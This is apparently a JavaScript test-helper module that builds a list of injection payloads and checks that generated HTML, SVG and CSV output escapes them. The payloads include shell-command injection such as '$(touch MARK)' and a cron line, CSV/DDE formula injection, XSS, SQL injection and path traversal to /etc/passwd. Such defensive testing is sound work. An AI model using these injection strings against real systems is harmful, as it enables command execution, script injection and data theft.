/* texts.mjs: texts that would act if something let them, and what a page, a drawing or a table
 * must be for none to have acted.
 *
 *     names('acted')          names that a centre's file takes; some would make a file 'acted'
 *     checkTags(html, name)   throws on a tag or attribute that is none of ours
 *     text(html)              what a reader sees of a piece of a page
 *     cells(csv)              rows of cells, as a spreadsheet takes them
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { root } from './given.mjs';

const corpora = join(process.env.SORTIE_SHARED || resolve(root, '../shared'), 'fixtures/corpora');
export const acts = /[\x00-\x1f\x7f\x80-\x9f\u2028-\u202e\u2066-\u2069]/;

const own = (mark) => [
    '`touch MARK`', '$(touch MARK)', '"; system("touch MARK"); "', '\'; system(\'touch MARK\'); \'', '! touch MARK', '| touch MARK',
    '<touch MARK', '@SUM(1+1)*cmd|\' /C touch MARK\'!A0', '=cmd|\'/C touch MARK\'!A0', '+1+cmd|\'/C touch MARK\'!A0', '-2+3', '   =1+1',
    '\u00a0=1+1', '＝1+1', '＋1+1', '－1', '＠SUM(1)', '=HYPERLINK("http://x.example?"&A1;"a")', '"=1+1', ';=1+1', ',=1+1', '\'=1+1', '|=1+1',
    '{/Bold a}', 'a_b^c', '{/=50 a}', '@a@b', 'a~b{.5-}', '%s%s%n%d', '%1$s', '$1', '\\0', '\\n', '\\\\', '\\"', '#a', '# set output "MARK"',
    '{n}', '{place}', '{share}', '{{name}}', '{{{title}}}', '{{{{x}}}}', '{}', '{}{}', '}}', '{{', 'x0', 'v1', 'y100', 'mean', 'none', 'last', 'NaN',
    '<script>alert(1)</script>', '"><script>alert(1)</script>', '\'><img src=x onerror=alert(1)>', '</title><script>alert(1)</script>',
    '</text></svg><script>alert(1)</script>', ']]><script>alert(1)</script>', '<!--', '-->', '&lt;b&gt;', '&#60;b&#62;', '&amp;', '&', '<', '>', '"', '\'',
    '" onload="alert(1)', '\' onmouseover=\'alert(1)', 'javascript:alert(1)', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
    '[[\'f0nemz]]', '~!touch MARK', '.', '..', '-', '--help', '-rf', '../../x', '/etc/passwd', 'a\'; DROP TABLE response; --', '* * * * * touch MARK',
    'A very long name without an end '.repeat(2).trim(),
].map((name) => name.replaceAll('MARK', mark));

/* Corpora of texts that broke other programs, where they are at hand. */
function others() {
    const naughty = join(corpora, 'blns/blns.json'), formulas = join(corpora, 'PayloadsAllTheThings/CSV Injection/README.md');
    const marked = (one) => /[<>&"`$%{}\\=+@|;~]/.test(one); /* the others are words and numbers */
    return [...(existsSync(naughty) ? JSON.parse(readFileSync(naughty, 'utf8')).filter(marked) : []),
        ...(existsSync(formulas) ? readFileSync(formulas, 'utf8').split('\n').map((line) => line.trim())
            .filter((line) => /^[=+@|-]|^DDE/.test(line)) : [])];
}

/* A name has a limit, is one line, and names nobody. */
const isName = (name) => name !== '' && Buffer.byteLength(name) <= 320 && !acts.test(name) && !/[\ud800-\udfff]/u.test(name)
    && !/^Dr\./.test(name) && !/[\ufffe\uffff\ufdd0-\ufdef]/.test(name);
export const names = (mark) => [...new Set([...own(mark), ...others()])].filter(isName);

/* ---- pages and drawings ---- */

const tags = new Set(('html head meta title link body header nav main section article footer div span p a h1 h2 h3 ul ol li dl dt dd strong em small img figure figcaption '
    + 'table caption thead tbody tr th td svg g path polygon circle text use rect defs style symbol br hr details summary ellipse line form fieldset legend label input textarea button kbd code bdi').split(' '));
const entity = /&(?!(amp|lt|gt|quot|#39|nbsp);)/;

/* Every < opens a tag of ours, every attribute is quoted, none runs or leads outside; no
 * character is there that a browser refuses or that turns the line around. */
export function checkTags(page, name) {
    const rest = page.replace(/^<\?xml version="1.0" encoding="UTF-8"\?>\n/, '').replace(/^<!doctype html>\n/i, '').replace(/<!--[^<>]*-->/g, '')
        .replace(/<(\/?)([a-zA-Z0-9]+)((?:\s+[a-zA-Z:-]+(?:="[^"<>]*")?)*)\s*\/?>/g, (tag, closing, element, attributes) => {
            assert.ok(tags.has(element), `${name}: ${tag}`);
            for (const [, attribute, value] of attributes.matchAll(/\s([a-zA-Z:-]+)="([^"]*)"/g)) {
                assert.doesNotMatch(attribute, /^on|^style$/, `${name}: ${tag}`);
                assert.doesNotMatch(value, entity, `${name}: ${tag}`);
                if (/^(href|src|action|xlink:href)$/.test(attribute))
                    assert.match(value, /^(#[\w-]+|(\.\.\/){0,2}[a-z]{2}\/?[\w./-]*|[\w.-]+|\/[\w./?=&;-]*)$/, `${name}: ${tag}`);
            }
            return '';
        });
    assert.doesNotMatch(rest, /[<>]/, `${name}: ${/.{0,40}[<>].{0,60}/.exec(rest)}`);
    assert.doesNotMatch(rest, entity, `${name}: ${new RegExp(`.{0,40}${entity.source}.{0,60}`).exec(rest)}`);
    assert.doesNotMatch(page, /[\x00-\x08\x0b-\x1f\x7f]/, name);
}

export const text = (html) => html.replace(/<[^>]*>/g, '').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"')
    .replaceAll('&#39;', '\'').replaceAll('&amp;', '&');

/* ---- tables ---- */

export function cells(csv) {
    const rows = [[]];
    for (const [all, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n|$)/g)) {
        if (all === '')
            break;
        rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
        if (end === '\n')
            rows.push([]);
    }
    assert.deepEqual(rows.pop(), []);
    return rows;
}

/* No cell may be run, however the file is split: by commas, semicolons or tabs. */
export function checkCells(csv, name) {
    for (const cell of cells(csv).flat())
        assert.doesNotMatch(cell, /^\s*[=+@\t\r＝＋－＠]|^\s*-/, `${name}: ${cell}`);
    for (const line of csv.split('\n'))
        for (const piece of line.replace(/"(?:[^"]|"")*"/g, '').split(/[;\t]/))
            assert.doesNotMatch(piece, /^\s*[=+@＝＋－＠-]/, `${name}: ${line}`);
}
